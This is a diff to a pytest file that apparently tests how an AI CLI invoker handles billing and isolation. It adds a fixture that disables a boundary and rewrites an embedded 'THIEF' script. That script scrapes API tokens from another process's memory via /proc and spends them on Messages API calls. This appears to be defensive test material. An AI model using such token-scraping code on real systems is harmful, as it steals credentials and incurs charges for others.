@@ -9,11 +9,16 @@ from typing import Any
 
 import pytest
 
-from tests.invoker.conftest import Invoker, StandInProcess, as_root, bash, program, tool
+from tests.invoker.conftest import Invoker, StandInProcess, as_root, bash, program, tool, without_boundary
 
 # US dollars for a token of claude-opus-5-5, from Anthropic's price list.
 INPUT, OUTPUT = Decimal("0.000004"), Decimal("0.000020")
 OPUS = "claude-opus-5-5"
+
+
+@pytest.fixture(scope="session")
+def start_invoker(start_invoker: Callable[..., Invoker]) -> Callable[..., Invoker]:
+    return without_boundary(start_invoker)
 
 
 def cost(answer: Any) -> float:
@@ -34,7 +39,7 @@ def test_a_run_that_kills_its_cli_is_billed(start_invoker: Callable[..., Invoker
 
 
 THIEF = """
-import json, os, re, sys, urllib.error, urllib.request
+import http.client, json, os, re, socket, sys
 pid, tokens = int(os.environ["CLAUDE_PID"]), set()
 with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory, \\
         open(f"/proc/{pid}/pagemap", "rb", 0) as pages:
@@ -56,15 +61,16 @@ for token in tokens:
         prompt = "stolen budget [" + "[" + sys.argv[2] + "]]"
         body = {"model": "claude-opus-5-5", "max_tokens": 64000, "messages": [{"role": "user", "content": prompt}]}
         body |= json.loads(sys.argv[3])
-        asked = urllib.request.Request(
-            os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages",
-            json.dumps(body).encode(),
-            {"x-api-key": token.decode(), "content-type": "application/json"},
-        )
-        try:
-            with urllib.request.urlopen(asked, timeout=20) as answer:
-                answers.append(str(answer.status) + str(json.load(answer)["usage"]["output_tokens"]))
-        except urllib.error.HTTPError as error: answers.append(str(error.code))
+        api = http.client.HTTPConnection("api")
+        api.sock = socket.socket(socket.AF_UNIX)
+        api.sock.settimeout(20)
+        api.sock.connect(os.environ["ANTHROPIC_UNIX_SOCKET"])
+        head = {"x-api-key": token.decode(), "content-type": "application/json"}
+        api.request("POST", "/v1/messages", json.dumps(body).encode(), head)
+        answer = api.getresponse()
+        said = answer.read()
+        used = str(json.loads(said)["usage"]["output_tokens"]) if answer.status == 200 else ""
+        answers.append(str(answer.status) + used)
 open("answers.json", "w").write(json.dumps(answers))
 """
 
